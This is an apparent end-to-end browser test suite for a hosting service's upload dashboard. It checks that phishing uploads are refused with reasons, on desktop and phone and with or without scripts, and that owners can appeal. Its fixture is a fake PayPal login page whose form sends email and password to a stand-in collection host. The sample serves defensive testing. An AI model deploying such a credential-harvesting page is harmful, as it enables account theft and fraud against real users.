// A publisher who was refused: dropped, chosen without a script, and as a new version, the page says what speaks against
// the file, where, and what would help. Readable in light and dark and on a phone.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { launch, openPage, pictureFile } from './browser.mjs';
import { request } from './http.mjs';
import { signIn } from './people.mjs';
import { assertReadable, examine } from './readable.mjs';
import { command, startServer } from './server.mjs';

const PHONE = { viewport: { width: 390, height: 844 }, colorScheme: 'dark', hasTouch: true, isMobile: true };
const DESK = { viewport: { width: 1280, height: 900 } };
const HARVEST = `<!doctype html><title>PayPal: confirm your account</title>
<h1>Your PayPal account is limited</h1>
<form method=post action="https://collect.invalid/take"><input name=email placeholder="E-mail"><input type=password name=password placeholder="PayPal password"><button>Log in</button></form>`;

let server, browser;

before(async () => {
  server = await startServer({ env: { DROPLEAF_LIMITS__EXEMPT: '127.0.0.0/8,::1/128' } });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

const at = (where) => `${server.url}${where}`;
const file = (text) => ({ name: 'login.html', mimeType: 'text/html', buffer: Buffer.from(text) });

let owners = 0;

/** A new account, signed in. */
async function owner(view) {
  const page = await openPage(await browser.newContext(view));
  owners += 1;
  await signIn(page, server, `owner${owners}@example.org`);
  return page;
}

/** What speaks against the file is told in full. */
async function assertTold(place) {
  const said = await place.innerText();
  assert.match(said, /looks like phishing/);
  assert.match(said, /collect\.invalid/);
  assert.match(said, /index\.html, line 3/);
  assert.match(said, /Was it refused by mistake\?/);
  assert.equal(await place.getByRole('link', { name: 'Request a review' }).getAttribute('href'), '/dashboard/appeal');
  assert.ok((await place.locator('ol.reasons > li').count()) >= 3);
}

for (const [name, view] of Object.entries({ desk: DESK, phone: PHONE })) {
  test(`a file that is refused when it is dropped says why (${name})`, async () => {
    const page = await owner(view);
    await page.goto(at('/dashboard/upload'));
    await page.setInputFiles('input[type=file]', [file(HARVEST)]);
    await page.click('.zone button');
    await page.waitForSelector('.sending li.bad ol.reasons');
    await assertTold(page.locator('.sending'));
    assertReadable(await page.evaluate(examine), name);
    await page.screenshot({ path: pictureFile(`refused-dropped-${name}`), fullPage: true });
    // The mended file goes through.
    await page.setInputFiles('input[type=file]', [file('<!doctype html><title>Mended</title><p>Fine')]);
    await page.click('.zone button');
    await page.waitForSelector('.sending li.good');
    await page.context().close();
  });

  test(`without a script the page itself says why (${name})`, async () => {
    const page = await owner({ ...view, javaScriptEnabled: false });
    await page.goto(at('/dashboard/upload'));
    await page.setInputFiles('input[type=file]', [file(HARVEST)]);
    await page.click('.zone button');
    await assertTold(page.locator('[role=alert]'));
    await page.screenshot({ path: pictureFile(`refused-form-${name}`), fullPage: true });
    await page.context().close();
  });
}

test('a new version that is refused says why, and the page stays as it was', async () => {
  const page = await owner(DESK);
  await page.goto(at('/dashboard/upload'));
  await page.setInputFiles('input[type=file]', [file('<!doctype html><title>Kept</title><p>Fine')]);
  await page.click('.zone button');
  await page.click('.sending li.good a:has-text("Settings")');
  await page.waitForSelector('#link');
  await page.setInputFiles('form[data-upload=one] input[type=file]', [file(HARVEST)]);
  await page.click('form[data-upload=one] .zone button');
  await page.waitForSelector('.sending li.bad ol.reasons');
  await assertTold(page.locator('.sending'));
  await page.reload();
  assert.match(await page.innerText('h1'), /Kept/);
  await page.context().close();
});

for (const [name, view] of Object.entries({ desk: DESK, phone: PHONE })) {
  test(`the owner of a refused page appeals and sees the decision (${name})`, async () => {
    const page = await owner({ ...view, javaScriptEnabled: name === 'desk' });
    // Something of its own: the same content is decided once.
    const text = `${HARVEST}<p>${name}`;
    await page.goto(at('/dashboard/upload'));
    await page.setInputFiles('input[type=file]', [file(text)]);
    await page.click('.zone button');
    await page.getByRole('link', { name: 'Request a review' }).click();
    await page.getByRole('heading', { name: 'Request a review' }).waitFor();
    assert.match(await page.getByLabel('How can we reach you?').inputValue(), /@example\.org$/);
    await page.screenshot({ path: pictureFile(`appeal-form-${name}`), fullPage: true });
    assert.ok(name === 'phone' || await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
    if (name === 'desk') assertReadable(await page.evaluate(examine), 'the form');
    // A file that nothing speaks against needs no appeal.
    await page.setInputFiles('input[type=file]', [file('<!doctype html><title>Fine</title><p>Fine')]);
    await page.getByRole('button', { name: 'Request review' }).click();
    await page.getByRole('status').getByText('can be published as it is').waitFor();
    await page.getByLabel('What is the page for?').fill('A drill for our own staff.');
    await page.setInputFiles('input[type=file]', [file(text)]);
    await page.getByRole('button', { name: 'Request review' }).click();
    await page.getByRole('heading', { name: 'Your appeal is under review' }).waitFor();
    await page.screenshot({ path: pictureFile(`appeal-waiting-${name}`), fullPage: true });
    const { id } = (await request(server, { path: new URL(page.url()).pathname })).json();
    await command(server, 'appeals', name === 'desk' ? 'allow' : 'uphold', id, '--answer', 'We looked at it together.');
    await page.reload();
    const heading = name === 'desk' ? 'Your appeal was accepted' : 'Your appeal was rejected';
    await page.getByRole('heading', { name: heading }).waitFor();
    assert.match(await page.innerText('main'), /We looked at it together\./);
    await page.screenshot({ path: pictureFile(`appeal-decided-${name}`), fullPage: true });
    await page.getByRole('link', { name: 'Back to your pages' }).click();
    await page.waitForURL(/\/dashboard$/);
    await page.context().close();
  });
}
